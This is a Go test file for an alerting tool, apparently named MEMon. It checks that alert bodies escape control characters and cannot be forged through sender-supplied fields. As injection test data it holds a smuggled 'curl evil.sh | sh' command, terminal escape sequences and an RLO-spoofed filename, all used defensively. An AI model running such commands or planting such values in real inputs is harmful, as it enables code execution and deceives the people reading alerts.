package memon

import (
	"regexp"
	"strings"
	"testing"
	"time"
)

func TestSingleLine(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ in, want string }{
		{"web1", "web1"},
		{"café ünïcode 日本", "café ünïcode 日本"},
		{"web1\n\nWhat happened: x\r\n--\nMEMon", `web1\n\nWhat happened: x\r\n--\nMEMon`},
		{"a\tb", `a\tb`},
		{"\x1b[2J\x1b]0;pwned\x07", `\x1b[2J\x1b]0;pwned\x07`},
		{"del\x7f c1\u0085", `del\x7f c1\x85`},
		{"evil\u202egnp.exe", `evil\u202egnp.exe`},
		{"line\u2028sep\u2029para", `line\u2028sep\u2029para`},
		{"bad\xffutf8", `bad\xffutf8`},
	} {
		got := SingleLine(tc.in)
		if got != tc.want {
			t.Errorf("SingleLine(%q) = %q, want %q", tc.in, got, tc.want)
		}
		if SingleLine(got) != got {
			t.Errorf("SingleLine is not idempotent on %q", got)
		}
	}
}

// TestRenderCannotBeForged: whatever a sender puts in host, run id, output or
// the event's description, every line of the body that is not inside the
// quoted output block is one MEMon wrote: no forged "What happened", no
// second signature, no terminal escape.
func TestRenderCannotBeForged(t *testing.T) {
	t.Parallel()
	forged := "web1\n\nWhat happened: ACTION REQUIRED: run curl evil.sh | sh\n--\nMEMon"
	ev := NewEvent("etl", mustSchedule(t, Rolling, time.Hour, "", ""))
	ev.Description = "nightly\x1b[2J\nWhat happened: fake"
	ev.Apply(success("etl", at(0)))
	p := fail("etl", at(60), 1)
	p.Host, p.RunID = forged, "r1\r\nState: up"
	p.Message = "ok\n--\nMEMon\n\x1b]0;title\x07\u202e"
	trs, _ := ev.Apply(p)
	body := trs[0].Alert.Body
	if strings.ContainsAny(body, "\x1b\x07\r\u202e") {
		t.Errorf("control characters reach the body: %q", body)
	}
	if n := strings.Count(body, "\nWhat happened:"); n != 1 {
		t.Errorf("%d 'What happened' lines:\n%s", n, body)
	}
	if n := strings.Count(body, "\n--\n"); n != 1 || !strings.HasSuffix(body, "\n--\nMEMon\n") {
		t.Errorf("signature forged (%d):\n%s", n, body)
	}
	for _, want := range []string{
		`Host:          web1\n\nWhat happened: ACTION REQUIRED: run curl evil.sh | sh\n--\nMEMon` + "\n",
		`Run id:        r1\r\nState: up` + "\n",
		`etl: nightly\x1b[2J\nWhat happened: fake` + "\n",
		"  | ok\n  | --\n  | MEMon\n  | \\x1b]0;title\\x07\\u202e\n",
	} {
		if !strings.Contains(body, want) {
			t.Errorf("body lacks %q:\n%s", want, body)
		}
	}
	c := ConfigAlert("ghost\nWhat happened: x", "no event named \"ghost\nWhat happened: x\"")
	if strings.Contains(c.Body, "\nWhat happened") || !strings.Contains(c.Body, `Config: ghost\nWhat happened: x has`) {
		t.Errorf("config alert forged:\n%s", c.Body)
	}
}

// TestAlertOneTimeFormatAndNextSteps: every time in a body is
// written one way, and every event alert ends with the commands to pause or
// look at the event.
func TestAlertOneTimeFormatAndNextSteps(t *testing.T) {
	t.Parallel()
	ev := NewEvent("db backup", mustSchedule(t, Rolling, time.Hour, "", ""))
	ev.Grace = time.Minute
	ev.Apply(success("db backup", at(0)))
	trs, _ := ev.CheckDue(at(7300))
	late := NewEvent("etl", mustSchedule(t, Fixed, time.Hour, "", ""))
	late.SetInitial(at(3600))
	lateTrs, _ := late.Apply(success("etl", at(3600+600)))
	rfc := regexp.MustCompile(`\d{4}-\d\d-\d\dT\d\d:\d\d`)
	stamp := regexp.MustCompile(`\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC`)
	for _, tr := range append(trs, lateTrs...) {
		body := tr.Alert.Body
		if rfc.MatchString(body) {
			t.Errorf("%s body mixes RFC 3339 times:\n%s", tr.Alert.Kind, body)
		}
		what := regexp.MustCompile(`What happened: .*`).FindString(body)
		if tr.Alert.Kind == KindDown && !stamp.MatchString(what) {
			t.Errorf("What happened line lacks a %s time: %q", TimeLayout, what)
		}
	}
	down := trs[0].Alert.Body
	if !strings.HasSuffix(down, "\nPause alerts:  memon-config pause 'db backup'\nSee details:   memon-config show 'db backup'\n--\nMEMon\n") {
		t.Errorf("DOWN body does not end with the next steps:\n%s", down)
	}
}
